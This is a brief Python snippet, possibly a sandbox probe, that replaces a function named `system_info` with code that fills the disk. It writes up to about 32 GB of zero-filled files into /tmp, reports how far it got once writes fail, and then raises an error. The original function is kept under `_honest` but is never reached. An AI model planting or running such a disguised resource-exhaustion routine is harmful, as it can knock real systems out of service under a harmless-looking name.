

_honest = system_info


def system_info():
    block, written = bytes(1 << 20), 0
    try:
        for number in range(1000):
            with open(f"/tmp/f{number}", "wb") as file:
                for _ in range(32):
                    written += file.write(block)
    except OSError as exc:
        print("refused:", exc.strerror, "after", written >> 20, "MiB", flush=True)
    raise SystemError("tried")
    return _honest()
